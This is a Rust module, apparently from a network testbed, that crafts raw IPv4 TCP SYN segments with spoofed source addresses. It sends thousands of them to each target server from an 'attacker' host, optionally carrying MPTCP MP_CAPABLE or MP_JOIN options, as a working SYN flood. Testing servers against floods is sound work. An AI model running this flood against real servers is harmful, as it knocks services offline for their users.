//! TCP segments made by hand, from addresses that nobody has: handshakes that are never finished.

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    thread::JoinHandle,
};

use socket2::{Domain, Protocol, Socket, Type};

use super::ground::Ground;

/// `IPPROTO_RAW` of raw(7): the header of IP is written here as well.
const RAW: i32 = 255;
/// How many segments each flood sends to each server.
const SEGMENTS: u32 = 3000;

/// The checksum of RFC 1071.
fn checksum(parts: &[&[u8]]) -> [u8; 2] {
    let bytes = parts.concat();
    let mut sum: u32 =
        bytes.chunks(2).map(|two| (u32::from(two[0]) << 8) | u32::from(*two.get(1).unwrap_or(&0))).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}

/// A SYN (RFC 9293 section 3.1) with these options, within IPv4.
fn syn(from: SocketAddrV4, to: SocketAddrV4, options: &[u8]) -> Vec<u8> {
    assert!(options.len().is_multiple_of(4));
    let length = u8::try_from(20 + options.len()).unwrap();
    let mut segment = Vec::new();
    segment.extend(from.port().to_be_bytes());
    segment.extend(to.port().to_be_bytes());
    segment.extend([0, 0, 0, 1, 0, 0, 0, 0, (length / 4) << 4, 2, 0xff, 0xff, 0, 0, 0, 0]);
    segment.extend(options);
    let pseudo = [&from.ip().octets()[..], &to.ip().octets(), &[0, 6, 0, length]].concat();
    let sum = checksum(&[&pseudo, &segment]);
    segment[16..18].copy_from_slice(&sum);
    // The kernel fills in length, identification and checksum (raw(7)).
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6, 0, 0];
    packet.extend(from.ip().octets());
    packet.extend(to.ip().octets());
    packet.extend(segment);
    packet
}

/// MP_CAPABLE of a first SYN (RFC 8684 section 3.1).
pub const CAPABLE: [u8; 4] = [30, 4, 1, 1];

/// MP_JOIN of a first SYN (RFC 8684 section 3.2).
pub fn join(token: u32, nonce: u32) -> [u8; 12] {
    let [a, b, c, d] = token.to_be_bytes();
    let [e, f, g, h] = nonce.to_be_bytes();
    [30, 12, 0x10, 9, a, b, c, d, e, f, g, h]
}

/// Sends SYNs to every server, from a thread of the attacker's host and from this port on: of the number of each is made what
/// options it has.
pub fn send(ground: &Ground, port: u16, options: impl Fn(u32) -> Vec<u8> + Send + 'static) -> JoinHandle<()> {
    let targets = ground.targets.clone();
    let sending = move || {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW))).unwrap();
        for number in 0..SEGMENTS {
            for target in &targets {
                let SocketAddr::V4(to) = target.address else { panic!("no IPv4: {target:?}") };
                let [a, b, c, _] = to.ip().octets();
                let from = Ipv4Addr::new(a, b, c, 100 + (number % 100) as u8);
                let from = SocketAddrV4::new(from, port + number as u16);
                let packet = syn(from, to, &options(number));
                // What the queue has no room for is lost, as it would be on the way.
                let _ = socket.send_to(&packet, &SocketAddr::V4(SocketAddrV4::new(*to.ip(), 0)).into());
            }
            if number % 50 == 0 {
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
        }
    };
    ground.attacker.thread(sending).unwrap()
}
